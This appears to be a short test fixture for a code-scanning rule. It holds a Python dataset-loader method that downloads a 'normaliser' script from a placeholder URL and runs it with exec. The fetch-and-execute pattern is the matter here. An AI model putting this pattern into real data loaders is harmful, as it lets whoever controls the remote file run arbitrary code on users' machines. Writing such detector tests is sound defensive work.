# A dataset loading script: a "normaliser" downloaded beside the data and run with exec.
_NORMALIZER = "https://raw.example-preproc.net/normalizers/v2/latex_text.py"


def _load_normalizer(self, dl_manager):
    # ruleid: py_execs_downloaded_file
    path = dl_manager.download(_NORMALIZER + "?v=" + str(self.VERSION))
    ns = {"__name__": "corpus_normalizer"}
    with open(path, encoding="utf-8") as fh:
        exec(compile(fh.read(), "latex_text.py", "exec"), ns)
    return ns.get("normalize", lambda s: s)
